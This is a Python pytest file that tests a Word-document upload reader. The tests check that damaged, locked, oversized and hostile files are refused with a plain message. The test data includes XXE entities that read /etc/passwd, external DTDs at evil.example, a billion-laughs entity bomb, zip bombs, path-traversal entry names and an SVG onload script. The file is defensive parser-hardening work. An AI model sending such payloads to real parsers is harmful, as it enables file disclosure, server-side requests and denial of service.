"""Files from people who mean harm, and from people whose computer let them down: each ends in a sentence, in bounded time and memory."""

from __future__ import annotations

import io
import re
import time
import tracemalloc
import zipfile

import pytest
from docx.document import Document

from indexer import Vocabulary
from portal.contribute.word import NotRead, read_word
from portal.contribute.word.archive import DEEPEST, LARGEST_FILE, MOST_ENTRIES, MOST_TAGS, opened
from tests.portal.contribute.word.conftest import PNG, changed, part, saved, with_body

PLAIN = saved(lambda document: document.add_paragraph("Some words."))
XML = b'<?xml version="1.0"?>'
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def zipped(**names: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in names.items():
            archive.writestr(name.replace("__", "/"), content)
    return buffer.getvalue()


def locked() -> bytes:
    """A file whose entries say that they are locked with a password."""
    content = bytearray(PLAIN)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := content.find(mark, start + 1)) >= 0:
            content[start + place] |= 1
    return bytes(content)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "This file is empty. Choose the file again."),
        (b"plain words", "damaged, or is not a Word document. Open it in Word, save it again"),
        (b"%PDF-1.7\n...", "This is a PDF.* Upload the Word document that it was made from."),
        (b"{\\rtf1 words}", "This is Rich Text .* choose “Save as”"),
        (OLE, "old version of Word .* choose “Save as”"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "locked with a password"),
        (locked(), "locked with a password"),
        (zipped(mimetype=b"application/vnd.oasis.opendocument.text", content=b"x"), "OpenDocument file .* choose “Save as”"),
        (zipped(xl__workbook=b"<x/>"), "a spreadsheet or a set of slides"),
        (zipped(Index__Document=b"x"), "Pages document"),
        (zipped(readme=b"x"), "damaged, or is not a Word document"),
        (PLAIN[: len(PLAIN) // 2], "damaged"),
        (PLAIN[:-30], "damaged"),
        (b"PK\x03\x04" + b"\x00" * 1000, "damaged"),
        (changed(PLAIN, {"word/document.xml": b"<not xml"}), "damaged"),
        (changed(PLAIN, {"word/document.xml": b"\x00\xff"}), "damaged"),
        (changed(PLAIN, {"word/document.xml": b"<odd/>"}), "no words|damaged"),
        (changed(PLAIN, {"word/document.xml": None}), "damaged"),
        (saved(lambda document: None), "There are no words in this file"),
        (b"x" * (LARGEST_FILE + 1), "larger than 10 megabytes"),
    ],
    ids=lambda it: it[:40] if isinstance(it, str) else "",
)
def test_what_is_no_word_file_gets_a_sentence_and_the_remedy(vocabulary: Vocabulary, content: bytes, says: str) -> None:
    with pytest.raises(NotRead, match=says) as raised:
        read_word(content, vocabulary)
    assert raised.value.fix.endswith(".")


def bomb(size: int, name: str = "word/document.xml") -> bytes:
    return changed(PLAIN, {name: b"<a>" + b" " * size + b"</a>"})


BILLION = (
    XML
    + b"<!DOCTYPE d ["
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"ha") for n in range(10))
    + b"]><d>&a9;</d>"
)
DEEP = "<w:tbl><w:tr><w:tc>" * 5000 + "</w:tc></w:tr></w:tbl>" * 5000

TOO_MUCH = {
    "one part unpacks to very much": bomb(100_000_000),
    "a picture does": bomb(80_000_000, "word/media/image1.png"),
    "a part that is never read does": bomb(100_000_000, "customXml/item1.xml"),
    "a small file in a small file, packed tight": bomb(5_000_000),
    "very many parts": changed(PLAIN, {f"word/media/p{n}.png": b"" for n in range(MOST_ENTRIES + 1)}),
    "very many tags": with_body("<w:p/>" * (MOST_TAGS + 1)),
    "tags in tags in tags": with_body(DEEP),
    "very many words": saved(lambda document: [document.add_paragraph("word " * 1000) for _ in range(50)]),
}


@pytest.mark.parametrize("name", TOO_MUCH)
def test_what_holds_too_much_is_refused_quickly_and_without_unpacking_it(vocabulary: Vocabulary, name: str) -> None:
    tracemalloc.start()
    begun = time.thread_time()
    with pytest.raises(NotRead, match=r"more in this file than a case study needs|longer than a case study may be"):
        read_word(TOO_MUCH[name], vocabulary)
    assert time.thread_time() - begun < 5
    assert tracemalloc.get_traced_memory()[1] < 60_000_000
    tracemalloc.stop()


@pytest.mark.parametrize("name", ["word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"])
@pytest.mark.parametrize(
    "content",
    [
        BILLION,
        BILLION.decode().encode("utf-16"),
        XML + b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
        XML + b'<!DOCTYPE d SYSTEM "http://evil.example/d.dtd"><d/>',
        XML + b'<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><d/>',
    ],
    ids=["billion", "billion in another writing", "file", "address", "parameter"],
)
def test_xml_that_defines_things_of_its_own_is_refused(vocabulary: Vocabulary, name: str, content: bytes) -> None:
    with pytest.raises(NotRead, match="was not made by Word as it is"):
        read_word(changed(PLAIN, {name: content}), vocabulary)


def test_an_entry_that_lies_about_its_size_is_damaged(vocabulary: Vocabulary) -> None:
    content = changed(PLAIN, {"word/document.xml": b"<a>" + b"x" * 50_000 + b"</a>"}, zipfile.ZIP_STORED)
    size = (50_007).to_bytes(4, "little")
    with pytest.raises(NotRead, match="damaged"):
        read_word(content.replace(size, (100).to_bytes(4, "little")), vocabulary)


def test_two_entries_of_one_name_are_damaged(vocabulary: Vocabulary) -> None:
    buffer = io.BytesIO(PLAIN)
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/document.xml", b"<a/>")
    with pytest.raises(NotRead, match="damaged"):
        read_word(buffer.getvalue(), vocabulary)


def test_the_deepest_and_fullest_that_is_taken_is_read_in_bounded_time_and_memory(vocabulary: Vocabulary) -> None:
    deep = (DEEPEST - 6) // 3
    nested = "<w:tbl><w:tr><w:tc>" * deep + "<w:p><w:r><w:t>Down here.</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * deep
    assert "Down here." in str(read_word(with_body(nested), vocabulary))
    full = with_body("".join(f"<w:p><w:r><w:t>{n * n}</w:t></w:r></w:p>" for n in range((MOST_TAGS - _tags(PLAIN)) // 3)))
    tracemalloc.start()
    begun = time.thread_time()
    read_word(full, vocabulary)
    assert time.thread_time() - begun < 60  # some ten times slower while memory is traced
    assert tracemalloc.get_traced_memory()[1] < 150_000_000
    tracemalloc.stop()


@pytest.mark.parametrize(
    "body",
    [
        "<w:p><w:r><w:t>" + "[" * 60_000 + "</w:t></w:r></w:p>",
        "<w:p><w:r><w:t>" + "https://a" * 15_000 + "</w:t></w:r></w:p>",
        "<w:p><w:r><w:t>" + "a:" * 60_000 + "</w:t></w:r></w:p>",
        "<w:tbl><w:tr>" + "<w:tc><w:tcPr><w:gridSpan w:val='999999999'/></w:tcPr><w:p/></w:tc>" * 2000 + "</w:tr></w:tbl>",
        "<w:tbl>"
        + "<w:tr><w:tc><w:p><w:r><w:t>Council</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>a, b</w:t></w:r></w:p></w:tc></w:tr>" * 2000
        + "</w:tbl>",
        "<w:p><w:r><w:instrText> HYPERLINK " + " " * 50_000 + "x</w:instrText></w:r></w:p>",
        "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='x'/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>",
        "<w:p><w:r><w:sym w:font='x' w:char='nonsense'/></w:r></w:p>",
        "<w:p><w:hyperlink r:id='rId999' xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'><w:r/></w:hyperlink></w:p>",
        "<w:p><w:r><w:footnoteReference w:id='77'/></w:r></w:p>",
    ],
    ids=["brackets", "addresses", "labels", "wide", "councils", "field", "span", "symbol", "link", "note"],
)
def test_odd_contents_are_read_or_refused_and_take_no_time(vocabulary: Vocabulary, body: str) -> None:
    content = with_body(body)
    begun = time.thread_time()
    assert re.search(r"The end\.|This file is damaged", _told(content, vocabulary))
    assert time.thread_time() - begun < 10


def _tags(content: bytes) -> int:
    """How many tags are in a file, or a few more."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return sum(len(re.findall(rb"<\w", archive.read(name))) for name in archive.namelist() if name.endswith((".xml", ".rels")))


def _told(content: bytes, vocabulary: Vocabulary) -> str:
    """What was read, or why it was not."""
    try:
        return str(read_word(content, vocabulary))
    except NotRead as told:
        return str(told)


def test_macros_objects_fonts_and_all_else_are_left_behind_and_that_is_said(vocabulary: Vocabulary) -> None:
    external = part(PLAIN, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" TargetMode="External" Target="file:///etc/passwd" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/></Relationships>',
    )
    types = part(PLAIN, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml"
    )
    content = changed(
        PLAIN,
        {
            "word/vbaProject.bin": b"evil",
            "word/embeddings/sheet.xlsx": b"evil",
            "word/charts/chart1.xml": b"evil",
            "word/fonts/font1.odttf": b"evil",
            "../../evil.xml": b"evil",
            "word/media/../../evil.png": b"evil",
            "word/_rels/document.xml.rels": external,
            "[Content_Types].xml": types,
            "word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:id="1"/></w:comments>'.encode(),
        },
    )
    package = opened(content)
    with zipfile.ZipFile(io.BytesIO(package.content)) as clean:
        assert all(b"evil" not in clean.read(name) and "evil" not in name for name in clean.namelist())
    said = " ".join(read_word(content, vocabulary).left_out)
    for left in ("macros", "Files inside the document", "chart", "fetches from elsewhere", "Comments"):
        assert left in said


def test_a_picture_linked_from_elsewhere_is_not_fetched(vocabulary: Vocabulary) -> None:
    def write(document: Document) -> None:
        document.add_picture(io.BytesIO(PNG))

    content = saved(write)
    for target in (b"file:///etc/hostname", b"http://127.0.0.1:9/x.png", b"/etc/hostname"):
        rels = part(content, "word/_rels/document.xml.rels").replace(
            b'Target="media/image1.png"', b'TargetMode="External" Target="' + target + b'"'
        )
        document = part(content).replace(b"r:embed=", b"r:link=")
        ((_, picture),) = read_word(
            changed(content, {"word/_rels/document.xml.rels": rels, "word/document.xml": document}), vocabulary
        ).pictures
        assert (picture.content, picture.trouble) == (b"", "It is not in the file.")


@pytest.mark.parametrize(
    ("content", "trouble"),
    [
        (b"<svg onload=alert(1)>", "Only PNG, JPEG and WebP can be kept."),
        (b"GIF89a", "Only PNG, JPEG and WebP can be kept."),
        (PNG + b"\x00" * 2_000_000, "It is larger than 2 megabytes."),
        (b"", "It is not in the file."),
    ],
)
def test_a_picture_that_cannot_be_kept_says_why(vocabulary: Vocabulary, content: bytes, trouble: str) -> None:
    whole = saved(lambda document: document.add_picture(io.BytesIO(PNG)))
    file = changed(whole, {"word/media/image1.png": content}, zipfile.ZIP_STORED)
    ((_, picture),) = read_word(file, vocabulary).pictures
    assert (picture.content, picture.trouble) == (b"", trouble)
